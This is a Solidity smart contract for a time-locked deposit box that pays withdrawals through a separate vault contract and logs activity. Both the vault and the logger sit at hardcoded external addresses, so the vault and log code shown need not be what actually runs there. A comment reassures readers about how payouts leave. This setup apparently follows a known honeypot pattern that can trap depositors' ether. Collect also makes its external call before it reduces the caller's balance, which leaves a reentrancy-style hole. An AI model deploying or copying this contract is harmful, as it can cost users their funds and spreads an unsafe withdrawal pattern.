pragma solidity ^0.4.25;

// Payouts leave through the operator's cold vault, which forwards them with a plain transfer.
contract DEP_BOX
{
    function Put(uint _unlockTime)
    public
    payable
    {
        var acc = Acc[msg.sender];
        acc.balance += msg.value;
        acc.unlockTime = _unlockTime>now?_unlockTime:now;
        LogFile.AddMessage(msg.sender,msg.value,"Put");
    }

    function Collect(uint _am)
    public
    payable
    {
        var acc = Acc[msg.sender];
        if( acc.balance>=MinSum && acc.balance>=_am && now>acc.unlockTime)
        {
            Vault.payTo.value(_am)(msg.sender);
            acc.balance-=_am;
            LogFile.AddMessage(msg.sender,_am,"Collect");
        }
    }

    function()
    public
    payable
    {
        Put(0);
    }

    struct Holder
    {
        uint unlockTime;
        uint balance;
    }

    mapping (address => Holder) public Acc;

    Log LogFile = Log(0x4B2CD5E1B0F8C7A34D6e9C0f1a2B3C4D5E6f7A81);

    PayoutVault Vault = PayoutVault(0x9D1E3a8c02b7F5e6D4c3B2A1908f7E6d5C4b3A29);

    uint public MinSum = 1 ether;
}


contract PayoutVault
{
    event Paid(address indexed to, uint amount);

    function payTo(address _to)
    public
    payable
    {
        _to.transfer(msg.value);
        emit Paid(_to, msg.value);
    }
}


contract Log
{
    struct Message
    {
        address Sender;
        string  Data;
        uint Val;
        uint  Time;
    }

    Message[] public History;

    Message LastMsg;

    function AddMessage(address _adr,uint _val,string _data)
    public
    {
        LastMsg.Sender = _adr;
        LastMsg.Time = now;
        LastMsg.Val = _val;
        LastMsg.Data = _data;
        History.push(LastMsg);
    }
}
